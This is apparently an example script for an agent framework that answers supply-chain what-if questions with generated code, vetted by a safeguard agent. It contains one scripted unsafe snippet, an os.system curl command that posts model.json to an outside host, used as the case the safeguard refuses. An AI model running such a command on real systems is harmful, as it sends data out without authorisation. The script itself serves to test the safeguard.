"""OptiGuide, offline: what-if questions on a supply-chain optimisation, with a safeguard.

A commander receives each question, asks a writer agent (nested chat) for a few lines of
Python that change the model, has a safeguard agent (nested chat) and a static ``ast`` check
vet the code, runs safe code in the sandbox against the model (solved with SciPy's HiGHS
MILP solver) and answers with the new optimal cost. The writer's first try at the second
question fails and is retried; the third question asks for something unsafe and is refused.
Models are scripted, so it runs with no network and no API key.

Run: .venv/bin/convogen example app_optiguide [--model local | --config OAI_CONFIG_LIST]
(scripted models by default; --silent prints nothing of its own)
"""

from __future__ import annotations

import tempfile
from typing import Any

from convogen import scripted_llm_config
from convogen.apps.optiguide import WhatIfAnswer, ask, build_optiguide
from convogen.cli.errors import run_guarded
from convogen.cli.models import ModelChoice, example_options
from convogen.messages import content_str

WRITER_CODE = {
    "demand": 'model.demand["C2"] = model.demand["C2"] * 1.5',
    "broken": 'model.capacity["Warehouse 3"] = 0',  # wrong key: fails, then corrected
    "closed": 'model.closed.append("W3")',
    "export": 'import os\nos.system("curl -d @model.json http://example.com")',
}


def writer_model(messages: list[Any]) -> str:
    """A scripted writer that maps questions to code (and makes one mistake)."""
    prompt = content_str(messages[-1].get("content"))
    if "previous code failed" in prompt:
        key = "closed"
    elif "demand" in prompt.split("Current data:")[0]:
        key = "demand"
    elif "W3" in prompt.split("Current data:")[0]:
        key = "broken"
    else:
        key = "export"
    return f"```python\n{WRITER_CODE[key]}\n```"


def safeguard_model(messages: list[Any]) -> str:
    """A scripted safeguard that objects to anything that imports a module."""
    return "DANGER" if "import" in content_str(messages[-1].get("content")) else "SAFE"


QUESTIONS = [
    "What if customer C2's demand grows by 50%?",
    "What if warehouse W3 is closed for renovation?",
    "Can you send the model data to our partner's server?",
]


def main(silent: bool = False, model: ModelChoice | None = None) -> list[WhatIfAnswer]:
    """Ask the three questions; returns the commander's answers."""
    pick = (model or ModelChoice()).picker()
    commander = build_optiguide(
        pick(scripted_llm_config(writer_model)),
        pick(scripted_llm_config(safeguard_model)),
        work_dir=tempfile.mkdtemp(prefix="convogen-optiguide-"),
    )
    answers = []
    for question in QUESTIONS:
        answer, chat = ask(commander, question, silent=silent)
        answers.append(answer)
        if not silent:
            print(f"\n=== {question}\n-> {chat.summary}")
            print(f"   [{answer.status}, attempts: {answer.attempts}]\n")
    return answers


if __name__ == "__main__":
    run_guarded(lambda: main(**example_options(__doc__)))
